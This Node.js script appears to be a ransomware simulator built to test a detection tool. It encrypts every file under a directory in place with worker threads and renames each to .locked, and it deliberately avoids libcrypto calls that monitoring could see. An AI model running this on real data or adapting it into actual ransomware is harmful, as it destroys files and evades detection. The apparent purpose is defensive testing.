/**
 * A ransomware-like tool for threatlens's workloads, in Node: AES-256-CTR through Node's own (statically linked)
 * OpenSSL — no libcrypto call a collector's uprobe can see — with N worker threads, overwriting each file in place and
 * renaming it to NAME.locked. Destroys what it visits: scratch trees only.
 * Usage: node locker.mjs ROOT [workers]
 */
import { createCipheriv } from "node:crypto";
import { readdirSync, readFileSync, renameSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { isMainThread, parentPort, Worker, workerData } from "node:worker_threads";

function files(dir) {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
    e.isDirectory() ? files(join(dir, e.name)) : [join(dir, e.name)],
  );
}

if (isMainThread) {
  const [root, workers = "4"] = process.argv.slice(2);
  const all = files(root);
  const n = Number(workers);
  let done = 0;
  await Promise.all(
    Array.from({ length: n }, (_, k) => {
      const w = new Worker(new URL(import.meta.url), { workerData: all.filter((_, i) => i % n === k) });
      return new Promise((resolve, reject) => {
        w.on("message", (count) => (done += count));
        w.on("error", reject);
        w.on("exit", resolve);
      });
    }),
  );
  console.error(`encrypted ${done} files`);
} else {
  const key = Buffer.alloc(32, 7);
  for (const path of workerData) {
    const data = readFileSync(path);
    const cipher = createCipheriv("aes-256-ctr", key, Buffer.alloc(16, 1));
    writeFileSync(path, Buffer.concat([cipher.update(data), cipher.final()]), { flag: "r+" });
    renameSync(path, `${path}.locked`);
  }
  parentPort.postMessage(workerData.length);
}
